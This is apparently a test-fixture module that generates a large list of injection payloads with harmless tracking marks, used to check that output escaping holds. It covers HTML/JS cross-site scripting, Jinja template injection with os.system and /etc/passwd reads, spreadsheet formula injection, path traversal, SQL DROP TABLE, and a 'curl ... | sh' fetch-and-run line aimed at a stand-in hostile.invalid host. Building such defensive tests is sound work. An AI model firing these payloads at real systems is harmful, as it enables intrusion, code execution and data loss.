"""Strings that try to become something else wherever they are shown: HTML, Markdown, Jinja, script, URL, formula.

Each carries a mark of its own (letters only), so that a hit tells which string it was: a script calls
``__hit('mark')``, an address leads to ``mark.hostile.invalid``.
"""

from __future__ import annotations

from itertools import count, product

HOST = "hostile.invalid"

ESCAPES = (
    "", '">', "'>", "</td></tr></tbody></table>", "</span></code></pre>", "-->", "]]>", "</script>", "```\n", "\n\n",
    "}}", "&quot;>", '\\">', "` ", "| ", "](x) ", "</a></summary></details>", "\u202e", "&#34;&#62;",
    "</textarea></title></style>", "{: ", "~~~\n", "\\", "\u2028",
    "</svg>", "<!--", "*/", "{% endraw %}", "</option></select>", "\x00",
)  # fmt: skip
"""Ways out of the place that a string was put in."""

HTML = (
    "<script>{js}</script>",
    "<img src=x onerror={js}>",
    "<img/src/onerror={js}>",
    "<svg onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<details open ontoggle={js}><summary>x</summary></details>",
    "<input autofocus onfocus={js}>",
    '<a href="javascript:{js}" id="go">x</a>',
    '<iframe srcdoc="<script>parent.{js}</script>"></iframe>',
    "<style>@import url(http://{host}/);*{{background:url(http://{host}/b)}}</style>",
    '<img src="http://{host}/pixel">',
    '<link rel="stylesheet" href="http://{host}/css">',
    "<ScRiPt>{js}</sCrIpT>",
)
ALONE = (
    "<body onload={js}>",
    '<base href="http://{host}/">',
    '<meta http-equiv="refresh" content="0;url=http://{host}/">',
    '<object data="http://{host}/"></object>',
    '<embed src="http://{host}/">',
    '<form action="http://{host}/"><button autofocus>x</button></form>',
    '<video><source onerror="{js}"></video>',
    '<math><mtext></mtext><mi xlink:href="javascript:{js}">x</mi></math>',
    '<svg><a xlink:href="javascript:{js}"><text>x</text></a></svg>',
    '<svg><animate onbegin={js} attributeName="x"/></svg>',
    "<noscript><p title=\"</noscript><img src=x onerror={js}>\">",
    "<div style=\"background:url(http://{host}/d)\">x</div>",
    "&lt;img src=x onerror={js}&gt;",
    "&#x3c;img src=x onerror={js}&#x3e;",
    "\\u003cimg src=x onerror={js}\\u003e",
    "%3Cimg src=x onerror={js}%3E",
    "<<img src=x onerror={js}>>",
    "<img src=x\nonerror\n={js}>",
    "<img src=x\x0conerror={js}>",
    '" onmouseover="{js}',
    "' autofocus onfocus='{js}",
    '" style="position:fixed;inset:0" onpointerenter="{js}" x="',
    '"><!--<script>{js}</script>-->',
    "<!-- {js} --!><script>{js}</script>",
    "<?php {js} ?><script>{js}</script>",
    "<![CDATA[<script>{js}</script>]]>",
    "[x](javascript:{js})",
    "[x](JaVaScRiPt:{js})",
    "[x](<javascript:{js}>)",
    "[x]( \tjavascript:{js})",
    "![x](http://{host}/image)",
    '![x](x "onerror={js}")',
    "[x]: javascript:{js}\n\n[x]",
    "<javascript:{js}>",
    "<http://{host}/auto>",
    '{{: onclick="{js}" onmouseover="{js}" }}',
    'x{{: onmouseover="{js}" }}',
    '{{ .md-button onclick="{js}" }}',
    '# heading {{: onmouseover="{js}" }}',
    '!!! danger "<img src=x onerror={js}>"',
    "```html\n<script>{js}</script>\n```",
    "~~~\n<script>{js}</script>\n~~~",
    "    indented\n\n<script>{js}</script>",
    "> quote\n\n<script>{js}</script>",
    "- item\n- <script>{js}</script>",
    "| a | b |\n|---|---|\n| <script>{js}</script> | x |",
    "***{js}*** __{js}__ ~~{js}~~ ==x== ^^x^^",
    "[^note]: <script>{js}</script>\n\nx[^note]",
    "*[x]: <script>{js}</script>\n\nx",
    '<div markdown="block">\n<script>{js}</script>\n</div>',
    "[TOC]\n\n# {js}",
    "`` `{js}` ``<script>{js}</script>",
    "\\<script>{js}\\</script>",
    "\\`<script>{js}</script>\\`",
    "&amp;lt;script&amp;gt;{js}",
    "<script\n>{js}</script\n>",
    "setext {js}\n======",
    "***\n---\n___\n{js}",
    "{{{{ cycler.__init__.__globals__.os.system('touch {js}') }}}}",
    "{{{{ self._TemplateReference__context }}}} {js}",
    "{{% for x in ().__class__.__base__.__subclasses__() %}}{js}{{% endfor %}}",
    "{{% include '/etc/passwd' %}} {js}",
    "{{# {js} #}}",
    "{{% raw %}}{js}",
    "{{% endblock %}}{js}",
    "{{{{ lit('x', 'setting') }}}} {js}",
    "${{{js}}} #{{{js}}} <%= {js} %>",
    "${{7*7}} {{{{7*7}}}} {js}",
    '");{js};//',
    "');{js};//",
    "`;{js};`",
    '"]}});{js};({{"x":["',
    "\\\");{js};//",
    "\u2028{js};//",
    "\u2029{js};//",
    '" + {js} + "',
    "' + {js} + '",
    "datum.constructor.constructor('{js}')()",
    "__proto__ {js}",
    "constructor {js}",
    "toString {js}",
    "*/{js};/*",
    "</script ><script >{js}</script >",
    "javascript:{js}",
    "JaVaScRiPt:{js}",
    " javascript:{js}",
    "\tjavascript:{js}",
    "java\nscript:{js}",
    "java\x00script:{js}",
    "\x01javascript:{js}",
    "vbscript:{js}",
    "data:text/html,<script>parent.{js}</script>",
    "data:text/html;base{{}},{js}",
    "//{host}/protocol",
    "http://{host}/plain",
    "https://user@{host}/plain?a=b&c=d#e",
    "\\\\{host}\\share",
    "file:///etc/passwd?{js}",
    "blob:{host}",
    "../../../../etc/passwd?{js}",
    "..%2f..%2fetc/passwd?{js}",
    '=HYPERLINK("http://{host}/","{js}")',
    "=cmd|' /C calc'!A {js}",
    "=IMPORTXML(CONCAT(\"http://{host}/\"),\"//a\")",
    "+cmd|' /C {js}'!A",
    "-cmd|' /C {js}'!A",
    "@SUM(A) {js}",
    "\t=cmd|{js}",
    "\r=cmd|{js}",
    "\n=cmd|{js}",
    '"=cmd|{js}"',
    'a,"b",\n=cmd|{js}',
    "'=cmd|{js}",
    ";=cmd|{js}",
    "＝cmd|{js}",
    "\u202e{js}\u202c",
    "\u2066{js}\u2069",
    "\u200b{js}\u200d",
    "\ufeff{js}",
    "\u0000{js}",
    "\u001b[31m{js}\u001b[0m",
    "\u0085{js}\u009f",
    "\u00a0{js}\u3000",
    "e\u0301 \u00e9 {js}",
    "\U0001f469\u200d\U0001f680 {js}",
    "\ufffe\uffff {js}",
    "\u115f\u3164 {js}",
    "Z\u0351\u036b\u0343\u036a {js}",
    "\u0622\u0644\u0644\u0651\u0647 {js}",
    "$(touch {js})",
    "; touch '{js}'",
    "`touch {js}`",
    "&& curl http://{host}/ | sh",
    "x' OR 'a'='a'; DROP TABLE runs; -- {js}",
    "%s%n%x {js}",
    "{{0.__class__}} {{}} {{js!r}} {js}",
    "{js}" + " long" * 800,
    "\\input{{/etc/passwd}} \\write{{{js}}}",
    "}} , note = {{{js}}}",
    "NaN {js}",
    "null {js}",
    "-Infinity {js}",
)  # fmt: skip
"""Complete on their own, in the grammar of one sink or another."""


def mark(number: int) -> str:
    """Letters that name a string: ``aa``, ``ba``, …"""
    return chr(ord("a") + number % 26) + chr(ord("a") + number // 26)


def _strings() -> tuple[str, ...]:
    templates = [
        escape + core for escape, core in product((e.replace("{", "{{").replace("}", "}}") for e in ESCAPES), HTML)
    ]
    numbers = count()
    return tuple(_filled(template, mark(next(numbers))) for template in (*templates, *ALONE))


def _filled(template: str, letters: str) -> str:
    return template.format(js=f"__hit('{letters}')", host=f"{letters}.{HOST}")


HOSTILE = _strings()
